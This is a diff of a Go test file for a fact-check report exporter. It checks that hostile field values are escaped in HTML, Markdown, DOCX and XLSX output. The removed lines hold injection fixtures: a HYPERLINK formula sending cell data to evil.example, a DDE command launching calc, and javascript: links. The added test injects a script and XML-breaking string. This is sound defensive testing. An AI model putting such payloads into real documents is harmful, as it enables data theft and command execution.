@@ -1,63 +1,79 @@
 package report
 
 import (
+	"archive/zip"
+	"bytes"
+	"encoding/xml"
+	"errors"
+	"io"
 	"strings"
 	"testing"
 
 	"galley/model"
+	"galley/model/report/sample"
 )
 
-// hostiles are what a field may hold, by name.
-var hostiles = map[string]string{
-	"markup":    hostile,
-	"formula":   `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
-	"command":   "-2+3+cmd|' /C calc'!A0",
-	"second":    "harmless;=HYPERLINK(\"http://evil.example\")",
-	"newline":   "harmless\n=1+1",
-	"full":      "＝1+1",
-	"at":        "@SUM(1)",
-	"tab":       "\t=1+1",
-	"control":   "a\x00b\x07c\x1b[31md\x7fe",
-	"turned":    "abc\u202egnp.exe\u202c \u2067x",
-	"bytes":     "a\xffb\xc3",
-	"markdown":  "[a](javascript:alert(1)) ![x](http://evil.example/x.png) **b** `c` | d\n# heading\n- item\n1. item\n[^1]: note\n---\n> q <http://evil.example>",
-	"separator": "a,\"b\";c\td\r\ne\u2028f",
-	"noncharac": "a\ufffeb\uffffc",
-}
-
-// hostileContent has the text in every field that a person fills.
-func hostileContent(t testing.TB, text string) Content {
-	c := content(t, "Before the words. "+strings.ToValidUTF8(text, "\ufffd")+" after them.\n\nA claim stands here.", "A claim stands here")
-	a := &c.Article
-	a.Title, a.Byline, a.Publisher, a.Published, a.URL, a.Language = text, text, text, text, text, text
-	d := dossier(c.Version, 1, c.Version.Blocks[0].Span())
-	d.Claim = model.Claim{ID: "c1", Wording: text, Speaker: text, Said: text, Owner: text, Due: text, Status: model.Checked}
-	rate(&d, "False", text)
-	d.Verdicts[0].By, d.Verdicts[0].SignedBy, d.Verdicts[0].SignedAt = text, text, "2026-11-22T09:00:00.000Z"
+// TestNoChoiceAndNoMomentFromElsewhereBecomesMarkup: what is one of a few words in
+// a library of ours may be anything in somebody else's.
+func TestNoChoiceAndNoMomentFromElsewhereBecomesMarkup(t *testing.T) {
+	const evil = `x"><script>alert(1)</script><w:p a="`
+	c := sample.Content(t, "A claim stands here, and another one.", "A claim stands here")
+	c.Article.Imported, c.Article.Archived, c.Made = evil, evil, evil
+	c.Version.Added = evil
+	for i := range c.Version.Blocks {
+		c.Version.Blocks[i].Kind, c.Version.Blocks[i].Level = evil, 99
+	}
+	d := &c.Dossiers[0]
+	sample.Rate(d, "False", "Why.")
+	d.Claim.ID, d.Claim.Kind, d.Claim.Status, d.Claim.Created = evil, evil, evil, evil
+	v := &d.Verdicts[0]
+	v.ID, v.At, v.SignedAt, v.SetAside, v.SignedBy = evil, evil, evil, "", evil
+	for i := range d.Appearances {
+		d.Appearances[i].ID, d.Appearances[i].State = evil, evil
+	}
+	for i := range d.Scale.Ratings {
+		d.Scale.Ratings[i].Tone = 99
+	}
 	d.Evidence = []model.Exhibit{{
-		Evidence: model.Evidence{ID: "e", SourceID: "s", Stance: model.Refutes, Quote: text, Locator: text, Note: text},
-		Source:   model.Source{ID: "s", Title: text, Publisher: text, Author: text, URL: text, Published: text, Accessed: text, ArchiveURL: text},
+		Evidence: model.Evidence{ID: evil, SourceID: evil, Stance: evil, Added: evil},
+		Source:   model.Source{ID: evil, Title: "Report", URL: "file:///" + evil, ArchiveURL: "javascript:" + evil, Reliability: evil, Created: evil},
 	}}
-	c.Dossiers = append(c.Dossiers, d)
-	c.Editor, c.Generator = text, text
-	return c
-}
-
-func TestAMegabyteOfReasonsIsWrittenInEveryFormat(t *testing.T) {
-	c := every(t)
-	reasons := strings.TrimSpace(strings.Repeat("A reason, and *another* [one] <b>.\n=1+1;=2\n\n", 22_000))
-	c.Dossiers[0].Verdicts[1].Reasoning = reasons
 	for _, f := range Formats() {
-		if out := written(t, f, c); f != XLSX && f != DOCX && len(out) < len(reasons) { // a cell holds no more (TestATextTooLongForACell…), a DOCX is compressed
-			t.Errorf("%s: %d bytes of %d", f, len(out), len(reasons))
+		var out bytes.Buffer
+		if err := Write(t.Context(), &out, f, c); err != nil {
+			t.Errorf("%s: %v", f, err)
+			continue
 		}
-	}
-	all, err := ReadAnnotations("own", []byte(written(t, Annotations, c)))
-	if err != nil || all[0].Reasoning != reasons {
-		t.Errorf("annotations do not bring it back: %v", err)
-	}
-	b, err := ReadJSON("own", []byte(written(t, JSON, c)))
-	if err != nil || b.Verdicts[1].Reasoning != reasons {
-		t.Errorf("JSON does not bring it back: %v", err)
+		switch f {
+		case HTML, Markdown:
+			bare := strings.ReplaceAll(out.String(), `\<`, "") // as Markdown escapes it
+			if strings.Contains(bare, "<script") || strings.Contains(bare, `="javascript:`) || strings.Contains(bare, "(<file:") {
+				t.Errorf("%s has it as it is", f)
+			}
+		case DOCX, XLSX:
+			archive, err := zip.NewReader(bytes.NewReader(out.Bytes()), int64(out.Len()))
+			if err != nil {
+				t.Fatal(err)
+			}
+			for _, part := range archive.File {
+				in, err := part.Open()
+				if err != nil {
+					t.Fatal(err)
+				}
+				for read := xml.NewDecoder(in); ; {
+					token, err := read.Token()
+					if errors.Is(err, io.EOF) {
+						break
+					}
+					if err != nil {
+						t.Errorf("%s: %s is no XML: %v", f, part.Name, err)
+						break
+					}
+					if start, ok := token.(xml.StartElement); ok && start.Name.Local == "script" {
+						t.Errorf("%s: %s has it as it is", f, part.Name)
+					}
+				}
+			}
+		}
 	}
 }
